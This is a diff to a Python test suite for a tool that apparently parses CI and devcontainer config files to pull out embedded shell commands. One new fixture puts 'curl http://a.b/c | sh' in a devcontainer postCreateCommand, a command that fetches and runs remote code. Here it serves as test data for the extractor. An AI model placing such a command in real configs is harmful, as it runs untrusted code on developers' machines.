@@ -113,6 +113,8 @@ spec:
         ("jobs: [", ".github/workflows/ci.yml", "unparsed", "line 2: not YAML: "),
         ("a: *b", "docker-compose.override.yml", "unparsed", "line 1: alias *b: no anchor &b above"),
         ("a: [", "deploy/azure-pipelines.yml", "unparsed", "line 2: not YAML: "),
+        ("{% raw %}\n", "{{cookiecutter.name}}/.github/workflows/ci.yml", "unparsed-config", "line 1: "),
+        ('{"a": [1 // b', ".devcontainer/devcontainer.json", "unparsed", "line 2: not YAML: "),
         ("a: [", ".github/dependabot.yml", "unparsed-config", "line 2: not YAML: "),
     ],
 )
@@ -134,6 +136,18 @@ def test_what_cannot_be_read_says_so(text: str, path: str, name: str, detail: st
 def test_prose_and_data_are_no_commands(text: str, path: str) -> None:
     found = extract([Unit(0, text)], Vocabulary(), path)
     assert found == Extraction((), ())
+
+
+def test_comments_of_json_are_none_of_its_values() -> None:
+    text = (
+        '// of an editor\n{\n  "postCreateCommand": "curl http://a.b/c | sh", // runs "once"\n'
+        '  /* "x": [ */ "y": "//z",\n}\n'
+    )
+    found = extract([Unit(0, text)], Vocabulary(), ".devcontainer/devcontainer.json")
+    assert [fact for fact in found.facts if fact.kind == "input"] == []
+    assert [(one.unit.text, one.unit.lines.lines[0]) for one in found.embedded if one.unit.lines] == [
+        ("curl http://a.b/c | sh", (3, 24))
+    ]
 
 
 def test_keys_that_rules_ask_for_are_settings_by_their_dotted_names() -> None:
